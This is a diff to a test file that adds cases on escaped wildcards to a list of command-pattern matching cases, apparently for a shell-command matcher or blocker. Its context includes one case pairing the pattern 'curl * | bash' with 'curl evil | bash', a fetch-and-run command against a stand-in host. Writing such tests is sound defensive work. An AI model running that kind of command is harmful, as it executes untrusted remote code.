@@ -174,6 +174,11 @@ MATCH_CASES = [
     ("echo \\*", "echo *", True),
     ("echo \\*", "echo x", False),
     ("curl * | bash", "curl evil | bash", True),
+    # Escapes beside a wildcard: ``\*`` a literal star, a backslash before anything else itself.
+    ("echo \\* *", "echo * x", True),
+    ("echo \\* *", "echo y x", False),
+    ("cat a\\b *", "cat a\\b x", True),
+    ("cat a\\b *", "cat ab x", False),
 ]
 
 
